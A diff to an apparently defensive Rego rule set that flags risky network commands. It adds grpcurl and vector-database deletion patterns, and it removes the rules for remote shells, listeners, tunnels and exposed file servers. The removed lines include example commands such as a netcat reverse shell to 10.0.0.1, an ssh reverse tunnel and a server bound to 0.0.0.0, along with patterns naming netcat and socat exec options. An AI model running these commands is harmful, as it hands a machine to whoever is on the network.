@@ -1,7 +1,7 @@
 # METADATA
 # title: Network
 # description: |
-#   Requests, listeners, tunnels and messages.
+#   Requests, messages, and what is asked of other hosts.
 package guard.rules.net
 
 import data.guard.stage
@@ -16,7 +16,7 @@ import data.guard.stage
 #   quiet: 'curl https://api.example.com/v1/items'
 hit contains {"id": "net.request", "tier": 2, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
-	s.name in {"curl", "wget", "http", "https", "xh"}
+	s.name in {"curl", "wget", "http", "https", "xh", "grpcurl"}
 	_changes_elsewhere(s)
 	msg := sprintf("sends data: %s", [stage.line(s)])
 }
@@ -35,71 +35,9 @@ hit contains {"id": "net.delete_data", "tier": 3, "stage": s.id, "msg": msg} if 
 	some s in input.cmd.stages
 	s.name in {"curl", "wget", "http", "https", "xh"}
 	some word in s.operands
-	regex.match(`:(9200|5984|9201)/[^/?]+/?(\?|$)|/_delete_by_query|:(9200|5984|9201)/_all\b`, word)
+	regex.match(`:(9200|5984|9201)/[^/?]+/?(\?|$)|/_delete_by_query|:(9200|5984|9201)/_all\b|:(6333|7700|8108|8983|8080)/(collections|indexes|solr|v1/schema)/[^/?]+/?(\?|$)`, word)
 	_deletes(s)
 	msg := sprintf("deletes data: %s", [stage.line(s)])
-}
-
-# METADATA
-# title: Shell for somebody else
-# description: Connects a shell with the network, so that whoever is at the other end can type.
-# custom:
-#   id: net.remote_shell
-#   remedy: none
-#   fires: nc -e /bin/sh 10.0.0.1 4444
-#   quiet: nc -z 10.0.0.1 4444
-hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
-	some s in input.cmd.stages
-	data.guard.tables.listeners[s.name]
-	_hands_over(s)
-	msg := sprintf("gives a program to the network: %s", [stage.line(s)])
-}
-
-# METADATA
-# title: Listens on the network
-# description: Anything that can reach the port can talk to it.
-# custom:
-#   id: net.listen
-#   remedy: bind a local server to 127.0.0.1
-#   fires: nc -l -p 4444
-#   quiet: nc -zv localhost 4444
-hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
-	some s in input.cmd.stages
-	data.guard.tables.listeners[s.name]
-	_listens(s)
-	not _only_here(s)
-	msg := sprintf("listens on the network: %s", [stage.line(s)])
-}
-
-# METADATA
-# title: Tunnel
-# description: Makes a port of this machine reachable from elsewhere.
-# custom:
-#   id: net.tunnel
-#   remedy: ask a person to open it
-#   fires: 'ssh -R 2222:localhost:22 web'
-#   quiet: ssh -V
-hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
-	some s in input.cmd.stages
-	_tunnels(s)
-	msg := sprintf("makes this machine reachable from elsewhere: %s", [stage.line(s)])
-}
-
-# METADATA
-# title: Serves files to the network
-# description: |
-#   A file server shows its folder to whoever reaches the port: on all
-#   addresses, or a folder that is not the project's.
-# custom:
-#   id: net.serve
-#   remedy: bind it to 127.0.0.1 and serve a build folder
-#   fires: python3 -m http.server 8000 --bind 0.0.0.0
-#   quiet: python3 -m http.server 8000 --bind 127.0.0.1
-hit contains {"id": "net.serve", "tier": 2, "stage": s.id, "msg": msg} if {
-	some s in input.cmd.stages
-	_serves_files(s)
-	_exposes(s)
-	msg := sprintf("serves files to the network: %s", [stage.line(s)])
 }
 
 # METADATA
@@ -174,6 +112,19 @@ _deletes(s) if {
 
 _deletes(s) if "DELETE" in s.operands
 
+# a call with an argument, to a server that is not this machine
+_changes_elsewhere(s) if {
+	s.name == "grpcurl"
+	"d" in s.flags
+	not _named_here(s)
+	not regex.match(`(?i)[/.](get|list|search|query|describe|find|check|count|watch|stream)[A-Za-z]*$`, s.operands[count(s.operands) - 1])
+}
+
+_named_here(s) if {
+	some word in s.args
+	regex.match(`^(localhost|127\.[0-9.]+|\[::1\]|unix:.*)(:[0-9]+)?$`, word)
+}
+
 # httpie: the method is a word
 _changes_elsewhere(s) if {
 	s.name in {"http", "https", "xh"}
@@ -196,109 +147,11 @@ _changes_elsewhere(s) if {
 }
 
 _changes_elsewhere(s) if {
+	s.name != "grpcurl"
 	some flag in s.flags
 	flag in {"d", "data", "data-raw", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form", "form-string", "T", "upload-file", "post-data", "post-file", "body-data", "body-file"}
 	not "G" in s.flags
 	not "get" in s.flags
-}
-
-_hands_over(s) if {
-	some flag in s.flags
-	flag in {"e", "c", "exec", "sh-exec", "lua-exec"}
-	s.name != "socat"
-}
-
-_hands_over(s) if {
-	s.name == "socat"
-	some word in s.args
-	regex.match(`(?i)^(exec|system|shell):`, word)
-}
-
-_only_here(s) if {
-	some word in s.operands
-	word in {"localhost", "127.0.0.1", "::1"}
-}
-
-_listens(s) if {
-	some flag in s.flags
-	flag in {"l", "listen"}
-}
-
-_listens(s) if {
-	s.name == "socat"
-	some word in s.args
-	regex.match(`(?i)-listen:`, word)
-}
-
-_tunnels(s) if {
-	data.guard.rules.net.tunnels[s.name] == true
-	not stage.help(s)
-	not _asks_only(s)
-}
-
-_asks_only(s) if s.operands[0] in {"version", "login", "list", "help", "update"}
-
-_tunnels(s) if {
-	verbs := data.guard.rules.net.tunnel_verbs[s.name]
-	s.operands[0] in verbs
-	not stage.help(s)
-}
-
-_tunnels(s) if {
-	s.name in {"ssh", "autossh"}
-	some flag in s.flags
-	flag in {"R", "D", "w"}
-}
-
-# a port of another host, for whoever reaches this machine
-_tunnels(s) if {
-	s.name in {"ssh", "autossh"}
-	some o in s.options
-	o.name == "L"
-	regex.match(`^(\*|0\.0\.0\.0|\[?::\]?):[0-9]+:`, o.value)
-}
-
-_tunnels(s) if {
-	s.name in {"ssh", "autossh"}
-	"L" in s.flags
-	"g" in s.flags
-}
-
-_tunnels(s) if {
-	s.name in {"ssh", "autossh"}
-	some o in s.options
-	regex.match(`(?i)^(remoteforward|dynamicforward|tunnel)[= ]`, o.value)
-}
-
-_serves_files(s) if {
-	startswith(s.name, "python")
-	some word in s.args
-	word in {"http.server", "SimpleHTTPServer", "pyftpdlib", "uploadserver", "-mhttp.server"}
-}
-
-_serves_files(s) if s.name in {"http-server", "serve", "live-server", "static-server", "miniserve", "darkhttpd", "webfsd", "dufs"}
-
-_serves_files(s) if {
-	s.name in {"php", "ruby", "busybox", "caddy", "rclone"}
-	some word in s.args
-	word in {"-S", "httpd", "-run", "file-server", "serve"}
-}
-
-_exposes(s) if {
-	some word in s.args
-	regex.match(`(^|//|=)(0\.0\.0\.0|::|\[::\])(:|$)`, word)
-}
-
-# a folder that is neither the project's nor temporary
-_exposes(s) if {
-	some i, word in s.args
-	word in {"--directory", "-d", "-t"}
-	regex.match(`^(/|~|/home/[^/]+/?|\$HOME|\.\.)$`, s.args[i + 1])
-}
-
-_exposes(s) if {
-	s.cwd in {"/", input.session.home}
-	s.cwd != ""
 }
 
 _own_host(s) if {
